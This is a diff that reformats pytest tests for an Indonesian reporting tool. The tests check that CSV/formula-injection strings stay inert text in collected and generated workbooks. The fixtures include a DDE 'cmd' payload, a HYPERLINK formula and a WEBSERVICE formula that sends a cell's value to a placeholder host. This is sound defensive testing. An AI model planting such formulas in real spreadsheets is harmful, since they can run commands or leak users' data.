@@ -25,7 +25,7 @@ PAYLOADS = (
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1)",
-    "\t=HYPERLINK(\"http://127.0.0.1:9/\";\"klik\")",
+    '\t=HYPERLINK("http://127.0.0.1:9/";"klik")',
     "=1+1\n=2+2",
     "#N/A",
     "-5",
@@ -43,8 +43,13 @@ def run_cli(args: list[str]) -> int:
 def formula_cells(path) -> list[str]:
     """Coordinates of every formula or error cell in the workbook at ``path``."""
     book = load_workbook(path, data_only=False)
-    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
-            for c in row if c.data_type in ("f", "e")]
+    return [
+        f"{ws.title}!{c.coordinate}"
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type in ("f", "e")
+    ]
 
 
 def hostile(table: pd.DataFrame, tw: int) -> pd.DataFrame:
@@ -57,13 +62,17 @@ def hostile(table: pd.DataFrame, tw: int) -> pd.DataFrame:
 
 
 def expected_text(rows: pd.DataFrame) -> dict[tuple[str, int], tuple[str, str]]:
-    return {(r["kode_satker"], int(r["triwulan"])): tuple(str(r[c]).strip() for c in TEXT)
-            for r in rows.to_dict("records")}
+    return {
+        (r["kode_satker"], int(r["triwulan"])): tuple(str(r[c]).strip() for c in TEXT)
+        for r in rows.to_dict("records")
+    }
 
 
 def stored_text(table: pd.DataFrame) -> dict[tuple[str, int], tuple[str, str]]:
-    return {(r["kode_satker"], int(r["triwulan"])): tuple(r[c] for c in TEXT)
-            for r in table.to_dict("records")}
+    return {
+        (r["kode_satker"], int(r["triwulan"])): tuple(r[c] for c in TEXT)
+        for r in table.to_dict("records")
+    }
 
 
 @pytest.fixture(scope="module")
@@ -79,10 +88,23 @@ def collected(tmp_path_factory):
         folder = tmp / f"kiriman-tw{tw}"
         folder.mkdir()
         write_kiriman(rows[tw], folder)
-        assert run_cli(["collect", str(folder), "--out", str(province),
-                        "--period", f"2025-TW{tw}"]) == 0
-    assert run_cli(["collect", str(tmp / "kiriman-tw2"), "--out", str(tmp / "tw2.csv"),
-                    "--period", "2025-TW2"]) == 0
+        assert (
+            run_cli(["collect", str(folder), "--out", str(province), "--period", f"2025-TW{tw}"])
+            == 0
+        )
+    assert (
+        run_cli(
+            [
+                "collect",
+                str(tmp / "kiriman-tw2"),
+                "--out",
+                str(tmp / "tw2.csv"),
+                "--period",
+                "2025-TW2",
+            ]
+        )
+        == 0
+    )
     return tmp, province, {**expected_text(rows[1]), **expected_text(rows[2])}
 
 
@@ -92,9 +114,10 @@ def test_sample_submissions_hold_no_formula(collected):
     assert books
     for book in books:
         assert formula_cells(book) == [], book.name
-    texts = {c.value for book in books for row in load_workbook(book)["Laporan"].iter_rows()
-             for c in row}
-    assert len(texts & set(PAYLOADS)) >= 5   # most offices send XLSX; the text is unchanged
+    texts = {
+        c.value for book in books for row in load_workbook(book)["Laporan"].iter_rows() for c in row
+    }
+    assert len(texts & set(PAYLOADS)) >= 5  # most offices send XLSX; the text is unchanged
 
 
 def test_collect_xlsx_keeps_hostile_text_as_text(collected):
@@ -120,9 +143,22 @@ def test_ringkasan_xlsx_keeps_hostile_text_as_text(collected):
     """``kendala`` reaches ringkasan.xlsx; it stays text there too."""
     tmp, province, expected = collected
     out = tmp / "reports"
-    result = subprocess.run([sys.executable, "-m", "workbench", "evaluate", str(province),
-                             "--period", "2025-TW2", "--out", str(out)],
-                            capture_output=True, text=True, timeout=600)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "workbench",
+            "evaluate",
+            str(province),
+            "--period",
+            "2025-TW2",
+            "--out",
+            str(out),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
     assert result.returncode == 0, result.stderr
     ringkasan = out / "bakohumas" / "2025-TW2" / "ringkasan.xlsx"
     assert formula_cells(ringkasan) == []
@@ -146,7 +182,8 @@ def test_append_row_stores_every_str_as_text(tmp_path):
 
 
 def test_meeting_workbook_keeps_formula_like_text(tmp_path):
-    """A record written as XLSX (``write_meeting_xlsx``) keeps '=...' text as text and reads back."""
+    """A record written as XLSX (``write_meeting_xlsx``) keeps '=...' text as text, and
+    reads back."""
     import shutil
 
     from workbench.rakor.blank import write_meeting_xlsx
@@ -156,8 +193,12 @@ def test_meeting_workbook_keeps_formula_like_text(tmp_path):
     record = tmp_path / "meeting.yaml"
     shutil.copy(fixtures / "minimal.yaml", record)
     payload = '=WEBSERVICE("http://contoh.invalid/?"&B2)'
-    record.write_text(record.read_text(encoding="utf-8").replace(
-        "  - Standar output diterapkan.", f"  - '{payload}'"), encoding="utf-8")
+    record.write_text(
+        record.read_text(encoding="utf-8").replace(
+            "  - Standar output diterapkan.", f"  - '{payload}'"
+        ),
+        encoding="utf-8",
+    )
     target = write_meeting_xlsx(load_meeting(record), tmp_path / "rapat.xlsx")
     assert formula_cells(target) == []
     assert load_meeting(target).kesimpulan[0] == payload
